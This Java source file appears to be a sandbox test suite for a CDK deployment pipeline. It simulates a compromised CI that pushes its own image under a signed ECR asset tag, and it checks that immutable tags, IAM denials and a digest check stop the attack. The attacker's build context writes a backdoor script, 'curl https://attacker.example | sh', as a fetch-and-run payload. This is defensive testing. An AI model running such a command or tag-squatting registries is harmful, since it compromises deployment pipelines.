package dev.cairn.sandbox;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.cairn.core.json.Json;
import dev.cairn.core.lifecycle.ArtifactKey;
import dev.cairn.sandbox.image.ContextImage;
import dev.cairn.sandbox.image.RegistryPush;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import software.amazon.awssdk.services.ecr.EcrClient;
import software.amazon.awssdk.services.ecr.model.ImageTagAlreadyExistsException;

/**
 * Docker image assets: published to each target's bootstrap repository as CI's {@code cdk-assets}
 * does (here without Docker: {@link ContextImage}), pinned by digest in the signed manifest, and
 * compared with what the destination tag names before each environment's deploy (gate 8).
 */
final class ImageScenarios {

  private ImageScenarios() {}

  /** The image asset added to the example's API stacks (its id is CDK's asset hash). */
  static final String ASSET = "c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00";

  /**
   * The example with a {@code DockerImageAsset} in each API stack: its build context in the root
   * {@code asset.<hash>/} and a destination in the stack's environment's bootstrap repository, as
   * CDK's default synthesizer writes it.
   */
  static void addImageAsset(Path cdkOut) {
    try {
      Path context = cdkOut.resolve("asset." + ASSET);
      Files.createDirectories(context);
      Files.writeString(
          context.resolve("Dockerfile"),
          "FROM public.ecr.aws/lambda/nodejs:20\nCOPY index.js ${LAMBDA_TASK_ROOT}\n"
              + "CMD [\"index.handler\"]\n");
      Files.writeString(
          context.resolve("index.js"), "exports.handler = async () => ({ statusCode: 200 });\n");
      for (String[] stack :
          new String[][] {
            {"hello-stage-api", SandboxWorld.STAGE_ACCOUNT},
            {"hello-prod-api", SandboxWorld.PROD_ACCOUNT}
          }) {
        Path file = cdkOut.resolve(stack[0] + ".assets.json");
        ObjectNode m = (ObjectNode) Json.parse(Files.readAllBytes(file));
        ObjectNode image = m.withObject("/dockerImages").putObject(ASSET);
        image.put("displayName", "ApiImage");
        image.putObject("source").put("directory", "asset." + ASSET);
        String account = stack[1];
        String region = SandboxWorld.REGION;
        image
            .putObject("destinations")
            .putObject(account + "-" + region)
            .put("repositoryName", repository(account))
            .put("imageTag", ASSET)
            .put("region", region)
            .put("assumeRoleArn", imagePublishingRole(account));
        Files.writeString(file, Json.pretty(m));
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  static String repository(String account) {
    return "cdk-"
        + SandboxWorld.QUALIFIER
        + "-container-assets-"
        + account
        + "-"
        + SandboxWorld.REGION;
  }

  static String imagePublishingRole(String account) {
    return "arn:aws:iam::"
        + account
        + ":role/cdk-"
        + SandboxWorld.QUALIFIER
        + "-image-publishing-role-"
        + account
        + "-"
        + SandboxWorld.REGION;
  }

  /**
   * An app with a Docker image asset: CI pushes the image of its build context to stage's and
   * prod's bootstrap repositories as their image-publishing roles, signs the digest, and each
   * environment's VerifyManifest finds that digest under the asset's tag before its deploy.
   */
  static void imageAsset(ScenarioContext c) throws Exception {
    SandboxWorld w = c.world();
    String commit = SandboxRun.COMMIT_A;
    c.publish(commit, ImageScenarios::addImageAsset);
    c.note(
        "CI pushed the image of asset "
            + ASSET.substring(0, 12)
            + " (its build context as one layer; no Docker here) to stage's and prod's bootstrap"
            + " repositories and signed its digest");
    c.candidateUploaded(commit);
    var record = w.ledger.find(new ArtifactKey(w.service, commit)).orElseThrow();
    if (!record.status().name().equalsIgnoreCase("promoted")) {
      throw new IllegalStateException(
          "the image app was to be promoted, but is " + record.status());
    }
  }

  /**
   * A compromised CI holds prod's image-publishing role (CI assumes it to push). Before CI's push
   * reaches prod, it pushes its own image under the asset's tag (the tag is the asset hash, known
   * from the source); {@code cdk-assets} finds the tag and pushes nothing, and the manifest CI
   * signs pins the digest of the image CI built. After signing, it tries to point stage's tag at
   * its image too: the bootstrap repository's tags are immutable ({@code ImageTagAlreadyExists})
   * and the role may not delete the image to free the tag (IAM). Stage deploys the image it
   * verified; prod's VerifyManifest compares the tag's digest with the signed one and refuses.
   */
  static void ciPushesOtherImageUnderSignedTag(ScenarioContext c) throws Exception {
    SandboxWorld w = c.world();
    String commit = SandboxRun.COMMIT_A;
    String prodRole = imagePublishingRole(SandboxWorld.PROD_ACCOUNT);
    Attack a =
        c.attack(
            "the holder of prod's image-publishing role pushes another image under the signed"
                + " image asset's tag");
    Attacker attacker = a.as(prodRole);
    ContextImage other;
    // The attacker's build context, read into the image's layer at once and then removed.
    try (Scratch evil = Scratch.create("cairn-evil-context-")) {
      Files.writeString(
          evil.path().resolve("Dockerfile"), "FROM public.ecr.aws/docker/library/alpine\n");
      Files.writeString(evil.path().resolve("backdoor.sh"), "curl https://attacker.example | sh\n");
      other = ContextImage.of(ASSET, evil.path());
    }
    boolean[] squatted = {false};
    w.beforeImagePush =
        (account, repository, tag) -> {
          if (!squatted[0] && account.equals(SandboxWorld.PROD_ACCOUNT)) {
            squatted[0] = true;
            EcrClient ecr = ecr(w, attacker, account);
            RegistryPush.publish(ecr, account, repository, tag, other);
            c.note(
                "the attacker pushed "
                    + other.digest()
                    + " as "
                    + repository
                    + ":"
                    + tag.substring(0, 12)
                    + " before CI's push reached prod");
          }
        };
    try {
      c.publish(commit, ImageScenarios::addImageAsset);
    } finally {
      w.beforeImagePush = (account, repository, tag) -> {};
    }
    if (!squatted[0]) {
      throw new IllegalStateException("CI pushed no image to prod: nothing was attacked");
    }
    // After signing: stage's tag already names CI's image, and its repository's tags are
    // immutable. The attacker holds only prod's role; stage's is the same template's.
    Attacker stage = Attacker.as(w, imagePublishingRole(SandboxWorld.STAGE_ACCOUNT));
    EcrClient stageEcr = ecr(w, stage, SandboxWorld.STAGE_ACCOUNT);
    try {
      RegistryPush.push(
          stageEcr,
          SandboxWorld.STAGE_ACCOUNT,
          repository(SandboxWorld.STAGE_ACCOUNT),
          ASSET,
          other);
      throw new IllegalStateException("ECR let the attacker move an immutable tag");
    } catch (ImageTagAlreadyExistsException e) {
      c.note("ECR refuses to move stage's tag: " + e.awsErrorDetails().errorCode());
    }
    attacker.denied(
        () ->
            ecr(w, attacker, SandboxWorld.PROD_ACCOUNT)
                .batchDeleteImage(
                    r ->
                        r.registryId(SandboxWorld.PROD_ACCOUNT)
                            .repositoryName(repository(SandboxWorld.PROD_ACCOUNT))
                            .imageIds(i -> i.imageTag(ASSET))));
    c.candidateUploaded(commit);
    var record = w.ledger.find(new ArtifactKey(w.service, commit)).orElseThrow();
    if (!record.environment("stage").status().name().equalsIgnoreCase("deployed")) {
      throw new IllegalStateException(
          "stage, whose tag names the signed image, was to deploy; it is "
              + record.environment("stage").status());
    }
    a.refused(
        "ASSET_IMAGE_DIGEST_MISMATCH",
        "prod's VerifyManifest (gate 8) reads the digest prod's tag names, as the read-only role,"
            + " and compares it with the digest in the signed manifest; immutable tags and the"
            + " publishing role's missing ecr:BatchDeleteImage keep a pushed tag where it is");
  }

  /**
   * {@code account}'s registry as {@code attacker}'s role: IAM decides each call, then records it.
   */
  private static EcrClient ecr(SandboxWorld w, Attacker attacker, String account) {
    return attacker.decided(
        EcrClient.class,
        w.calls.recording(EcrClient.class, w.registries.get(account), "Ecr", attacker.roleArn()));
  }
}
